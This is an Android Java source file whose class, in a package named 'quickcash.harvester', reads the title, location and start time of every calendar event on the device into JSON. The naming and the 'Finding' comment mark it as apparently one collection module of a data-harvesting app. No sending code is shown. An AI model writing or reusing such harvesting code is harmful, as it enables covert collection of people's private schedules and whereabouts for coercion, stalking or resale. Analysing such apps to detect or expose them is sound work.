package com.example.quickcash.harvester;

import android.content.Context;
import android.database.Cursor;
import android.provider.CalendarContract;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** Finding, calendar: titles, places and times of all events. */
final class CalendarReader {
    private CalendarReader() {}

    static JSONArray read(Context context) throws JSONException {
        JSONArray events = new JSONArray();
        String[] columns = {
            CalendarContract.Events.TITLE,
            CalendarContract.Events.EVENT_LOCATION,
            CalendarContract.Events.DTSTART,
        };
        Cursor rows =
                context.getContentResolver()
                        .query(CalendarContract.Events.CONTENT_URI, columns, null, null, null);
        while (rows.moveToNext()) {
            JSONObject event = new JSONObject();
            event.put("title", rows.getString(0));
            event.put("place", rows.getString(1));
            event.put("start", rows.getLong(2));
            events.put(event);
        }
        rows.close();
        return events;
    }
}
